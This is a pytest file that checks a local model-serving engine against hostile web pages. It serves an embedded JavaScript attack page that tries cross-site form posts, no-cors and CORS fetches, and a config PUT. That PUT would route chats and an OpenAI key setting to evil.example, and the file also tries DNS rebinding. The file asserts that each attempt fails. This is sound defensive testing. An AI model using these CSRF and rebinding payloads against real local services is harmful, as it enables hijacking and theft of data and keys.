"""Web pages against the engine in a real browser: headless Chromium opens an attack page
at http://evil.example:PORT that tries every request a page can send without asking (text/plain
and form posts, no-cors fetches) and some it must ask for (a JSON PUT of the config), and
navigates to the engine under a rebinding name. The engine's own state says nothing got through:
the model stays loaded, the request log and models.yaml stay as they were, and no page saw the
config. A page at an origin in server.cors_origins does get through (the browser ran the script)."""
from __future__ import annotations

import html
import json
import os
import shutil
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from engine_harness import running_engine

RESOLVE = "MAP evil.example 127.0.0.1, MAP rebind.attacker.example 127.0.0.1"


def chromium() -> str:
    for name in ("chromium", "chromium-browser", "google-chrome"):
        path = shutil.which(name)
        if path:
            return path
    message = "chromium is missing (apt-get install chromium; .ci/run installs it)"
    if os.environ.get("CI"):
        pytest.fail(message)
    pytest.skip(message)


ATTACK = """<!doctype html><html><body><pre id="out">running</pre><script>
const engine = "http://127.0.0.1:%(engine)d";
const results = {};
async function attempt(name, run) {
  try { results[name] = await run(); } catch (e) { results[name] = "blocked: " + e.name; }
}
function form(action, enctype, fields) {
  return new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = "sink-" + Math.random(); document.body.appendChild(frame);
    const f = document.createElement("form");
    f.method = "POST"; f.action = action; f.target = frame.name; f.enctype = enctype;
    for (const [k, v] of Object.entries(fields)) {
      const i = document.createElement("input"); i.name = k; i.value = v; f.appendChild(i);
    }
    document.body.appendChild(f);
    frame.onload = () => done("submitted"); f.submit();
    setTimeout(() => done("submitted (no load event)"), 3000);
  });
}
(async () => {
  const chat = JSON.stringify({model: "tiny", messages: [{role: "user", content: "hi"}], max_tokens: 1});
  for (const mode of ["no-cors", "cors"]) {
    await attempt("unload text/plain " + mode, async () => {
      const r = await fetch(engine + "/admin/models/tiny/unload", {method: "POST", mode,
        headers: {"Content-Type": "text/plain"}, body: "{}"});
      return mode == "cors" ? "read " + r.status + " " + await r.text() : "sent (opaque)";
    });
    await attempt("chat text/plain " + mode, async () => {
      const r = await fetch(engine + "/v1/chat/completions", {method: "POST", mode,
        headers: {"Content-Type": "text/plain"}, body: chat});
      return mode == "cors" ? "read " + r.status + " " + await r.text() : "sent (opaque)";
    });
    await attempt("chat untyped " + mode, async () => {
      const r = await fetch(engine + "/v1/chat/completions", {method: "POST", mode,
        body: new Blob([chat])});
      return mode == "cors" ? "read " + r.status + " " + await r.text() : "sent (opaque)";
    });
    await attempt("config GET " + mode, async () => {
      const r = await fetch(engine + "/admin/config", {mode});
      return mode == "cors" ? "read " + r.status + " " + await r.text() : "sent (opaque)";
    });
  }
  await attempt("config PUT cors", async () => {
    const r = await fetch(engine + "/admin/config", {method: "PUT", mode: "cors",
      headers: {"Content-Type": "application/json"}, body: JSON.stringify(%(config)s)});
    return "read " + r.status + " " + await r.text();
  });
  await attempt("config PUT no-cors", async () => {
    await fetch(engine + "/admin/config", {method: "PUT", mode: "no-cors", body: "{}"});
    return "sent (opaque)";
  });
  await attempt("form unload", () => form(engine + "/admin/models/tiny/unload",
    "application/x-www-form-urlencoded", {x: "1"}));
  await attempt("form chat text/plain", () => form(engine + "/v1/chat/completions", "text/plain",
    {['{"model": "tiny", "max_tokens": 1, "messages": [{"role": "user", "content": "hi"}], "x": "']: '"}'}));
  document.getElementById("out").textContent = "DONE " + JSON.stringify(results);
})();
</script></body></html>"""

ALLOWED = """<!doctype html><html><body><pre id="out">running</pre><script>
(async () => {
  const engine = "http://127.0.0.1:%(engine)d";
  let text;
  try {
    const models = await (await fetch(engine + "/admin/models")).json();
    const r = await fetch(engine + "/admin/models/tiny/unload", {method: "POST",
      headers: {"Content-Type": "application/json"}, body: "{}"});
    text = "names=" + models.models.map(m => m.name).join(",") + " unload=" + r.status;
  } catch (e) { text = "failed: " + e; }
  document.getElementById("out").textContent = "DONE " + text;
})();
</script></body></html>"""


class Pages:
    """A small web server for the test's pages."""

    def __init__(self):
        self.pages: dict[str, str] = {}
        pages = self.pages

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                body = pages.get(self.path, "").encode()
                self.send_response(200 if body else 404)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def dump_dom(browser: str, url: str, profile: Path) -> str:
    done = subprocess.run(
        [browser, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
         "--disable-extensions", "--disable-background-networking", "--disable-sync",
         f"--user-data-dir={profile}", f"--host-resolver-rules={RESOLVE}",
         "--virtual-time-budget=20000", "--dump-dom", url],
        capture_output=True, text=True, timeout=90)
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


def out_text(dom: str) -> str:
    """What the page wrote into its <pre id="out"> once its script ran to the end."""
    start = dom.index('<pre id="out">') + len('<pre id="out">')
    text = html.unescape(dom[start:dom.index("</pre>", start)])
    assert text.startswith("DONE "), dom[-3000:]
    return text[len("DONE "):]


@pytest.fixture(scope="module")
def browser() -> str:
    return chromium()


def _config(gguf, pages_port: int) -> dict:
    return {"server": {"cors_origins": [f"http://127.0.0.1:{pages_port}"]},
            "models": [{"name": "tiny", "backend": "llama_cpp", "path": str(gguf), "n_ctx": 128,
                        "parallel": 1, "idle_ttl_s": 0}],
            "routes": [{"name": "default", "target": "tiny"}]}


def test_pages_of_other_sites_cannot_drive_the_engine(browser, tmp_path, tiny_gguf):
    evil_remote = {"name": "exfil", "backend": "openai", "base_url": "http://evil.example/v1",
                   "api_key_env": "OPENAI_API_KEY"}
    pages = Pages()
    try:
        with running_engine(_config(tiny_gguf, pages.port), tmp_path) as eng, eng.client() as c:
            config = c.get("/admin/config").json()
            attacker_config = {**config, "models": config["models"] + [evil_remote],
                               "routes": [{"name": "first", "target": "exfil"}] + config["routes"]}
            pages.pages["/attack.html"] = ATTACK % {"engine": eng.port,
                                                    "config": json.dumps(attacker_config)}
            pages.pages["/ok.html"] = ALLOWED % {"engine": eng.port}
            assert c.post("/admin/models/tiny/load").status_code == 200
            before = eng.config_path.read_bytes()
            seq = c.get("/admin/requests").json()["seq"]

            dom = dump_dom(browser, f"http://evil.example:{pages.port}/attack.html", tmp_path / "p1")
            results = json.loads(out_text(dom))
            assert len(results) == 12, results   # every attempt was made
            # what the page could read: nothing (CORS refused every answer)
            assert all(not v.startswith("read") for v in results.values()), results
            # what reached the engine changed nothing
            assert [m["state"] for m in c.get("/admin/models").json()["models"]] == ["ready"]
            assert c.get("/admin/requests").json()["seq"] == seq
            assert eng.config_path.read_bytes() == before
            assert "exfil" not in json.dumps(c.get("/admin/config").json())
            log = eng.log_path.read_text(errors="replace")
            assert "refused a request with origin 'http://evil.example:" in log

            # DNS rebinding: the engine's own answer under the attacker's name, as the page
            # would read it once its name pointed at 127.0.0.1 (the same origin as the engine)
            rebound = dump_dom(browser, f"http://rebind.attacker.example:{eng.port}/admin/config",
                               tmp_path / "p2")
            assert "misdirected_request" in rebound, rebound
            assert "tiny" not in rebound and "llama_cpp" not in rebound and "routes" not in rebound

            # the positive control: a listed origin reads and acts
            dom = dump_dom(browser, f"http://127.0.0.1:{pages.port}/ok.html", tmp_path / "p3")
            assert out_text(dom) == "names=tiny unload=200"
            assert [m["state"] for m in c.get("/admin/models").json()["models"]] != ["ready"]
    finally:
        pages.close()
